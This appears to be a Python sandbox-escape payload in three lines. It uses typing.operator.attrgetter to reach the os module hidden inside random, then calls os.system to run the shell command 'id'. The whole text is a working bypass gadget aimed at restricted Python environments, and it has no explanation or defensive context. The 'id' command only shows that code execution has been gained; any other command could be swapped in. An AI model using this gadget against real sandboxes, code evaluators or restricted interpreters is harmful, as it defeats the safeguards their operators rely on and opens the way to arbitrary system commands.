# attrgetter from typing.operator
import typing, random
typing.operator.attrgetter("_os.system")(random)("id")
